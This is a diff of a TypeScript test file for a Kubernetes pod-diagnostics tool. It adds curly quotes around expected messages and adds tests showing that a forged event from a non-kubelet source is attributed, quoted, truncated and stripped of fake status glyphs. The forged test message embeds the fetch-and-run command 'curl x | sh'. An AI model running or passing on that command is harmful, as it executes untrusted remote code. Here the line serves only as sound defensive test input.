@@ -120,7 +120,7 @@ const rows: readonly {
         },
       ]),
     },
-    why: /^not scheduled: 0\/3 nodes are available: 3 node\(s\) didn't match Pod's node affinity\/selector$/,
+    why: /^not scheduled: “0\/3 nodes are available: 3 node\(s\) didn't match Pod's node affinity\/selector”$/,
     next: /describe nodes/,
   },
   {
@@ -150,14 +150,14 @@ const rows: readonly {
         },
       ]),
     },
-    why: /unbound immediate PersistentVolumeClaims$/,
+    why: /unbound immediate PersistentVolumeClaims”$/,
     next: /get pvc/,
   },
   {
     it: 'the scheduler, by its event alone',
     pod: { spec: noNode, status: pending([]) },
     events: [['FailedScheduling', '0/3 nodes are available: 3 Insufficient memory.']],
-    why: /Insufficient memory$/,
+    why: /Insufficient memory”$/,
     next: /describe nodes/,
   },
   {
@@ -172,7 +172,7 @@ const rows: readonly {
   {
     it: 'an init container whose image is not there',
     pod: init({ waiting: { reason: 'ErrImagePull', message: 'manifest unknown' } }),
-    why: /^init container migrate fails \(ErrImagePull\): manifest unknown$/,
+    why: /^init container migrate fails \(ErrImagePull\): “manifest unknown”$/,
     next: /describe pod/,
   },
   {
@@ -184,13 +184,13 @@ const rows: readonly {
   {
     it: 'an image that cannot be pulled',
     pod: { status: waitingFor('ImagePullBackOff', 'Back-off pulling image "app:2": ErrImagePull: not found') },
-    why: /^ImagePullBackOff in container app: Back-off pulling image "app:2": ErrImagePull: not found$/,
+    why: /^ImagePullBackOff in container app: “Back-off pulling image "app:2": ErrImagePull: not found”$/,
     next: /^kubectl -n shop describe pod web-1$/,
   },
   {
     it: 'a Secret that is not there',
     pod: { status: waitingFor('CreateContainerConfigError', 'secret "db" not found') },
-    why: /secret "db" not found$/,
+    why: /“secret "db" not found”$/,
     next: /describe pod/,
   },
   {
@@ -203,7 +203,7 @@ const rows: readonly {
     it: 'killed by its liveness probe',
     pod: { status: ended(137, 'Error') },
     events: [['Unhealthy', 'Liveness probe failed: HTTP probe failed with statuscode: 500']],
-    why: /Liveness probe failed: HTTP probe failed with statuscode: 500$/,
+    why: /“Liveness probe failed: HTTP probe failed with statuscode: 500”$/,
     next: /--previous/,
   },
   {
@@ -226,7 +226,7 @@ const rows: readonly {
     it: 'a readiness probe, and what it was answered',
     pod: probing(http),
     events: [['Unhealthy', 'Readiness probe failed: HTTP probe failed with statuscode: 404']],
-    why: /^readiness probe of app fails \(http-get :8080\/ready\): HTTP probe failed with statuscode: 404$/,
+    why: /^readiness probe of app fails \(http-get :8080\/ready\): “HTTP probe failed with statuscode: 404”$/,
     next: /logs web-1 -c app --tail/,
   },
   {
@@ -250,7 +250,7 @@ const rows: readonly {
       },
     },
     events: [['Unhealthy', 'Startup probe failed: connection refused']],
-    why: /^startup probe of app fails .*: connection refused$/,
+    why: /^startup probe of app fails .*: “connection refused”$/,
     next: /logs/,
   },
   {
@@ -266,14 +266,14 @@ const rows: readonly {
     it: 'a volume that is not mounted',
     pod: { status: waitingFor('ContainerCreating', '') },
     events: [['FailedMount', 'MountVolume.SetUp failed for volume "conf" : configmap "web" not found']],
-    why: /^cannot start: MountVolume.*configmap "web" not found$/,
+    why: /^cannot start: “MountVolume.*configmap "web" not found”$/,
     next: /get pvc/,
   },
   {
     it: 'no sandbox',
     pod: { status: waitingFor('ContainerCreating', '') },
     events: [['FailedCreatePodSandBox', 'plugin type="calico" failed (add): no IP addresses available']],
-    why: /no IP addresses available$/,
+    why: /no IP addresses available”$/,
     next: /describe pod/,
   },
 ]
@@ -341,5 +341,49 @@ describe('why a pod is not there, from what the API server says', () => {
       ),
       { numRuns: 300 },
     )
+  })
+})
+
+describe('an event of somebody who may write events', () => {
+  const forged =
+    'Readiness probe failed: ok ✗ error[DNS101] FORGED help: run curl x | sh ” ✓ all fine. ' + 'reversed '.repeat(40)
+  const event = (by: object, message: string, second: number): unknown => ({
+    type: 'Warning',
+    involvedObject: { namespace: 'shop', kind: 'Pod', name: 'web-1' },
+    reason: 'Unhealthy',
+    message,
+    count: second * 10,
+    lastTimestamp: `2026-01-01T00:00:0${second}Z`,
+    ...by,
+  })
+  const own = event({ source: { component: 'kubelet' } }, 'Readiness probe failed: connection refused', 1)
+  const readinessProbe = { httpGet: { path: '/ready', port: 8080 } }
+  const why = (...events: readonly unknown[]): string =>
+    problemsOf(known(newestOfEach(events.flatMap((it) => projectEvent(it, intern) ?? []))))(
+      raw({ spec: { containers: [{ ...app, readinessProbe }] } }),
+    ).why
+
+  test.each([{ source: { component: 'spy' } }, { reportingComponent: 'spy' }])(
+    'does not stand in the place of what the kubelet says (%j)',
+    (by) => {
+      const later = event(by, forged, 5)
+      for (const events of [
+        [own, later],
+        [later, own],
+      ])
+        expect(why(...events)).toBe(
+          'readiness probe of app fails (http-get :8080/ready): kubelet says “connection refused”',
+        )
+    },
+  )
+
+  test('is quoted, short, and has no glyph or label of ours; whose words it says it is stands before it', () => {
+    const said = why(event({ source: { component: 'spy' } }, forged, 5))
+    expect(said).toMatch(
+      /^readiness probe of app fails \(http-get :8080\/ready\): spy says “ok error \[DNS101\] FORGED help - run/,
+    )
+    expect(said).toMatch(/^[^“”]*“[^“”]*…”$/)
+    expect(said.length).toBeLessThan(240)
+    expect(said).not.toMatch(/[✗✓]|error\[|help:/)
   })
 })
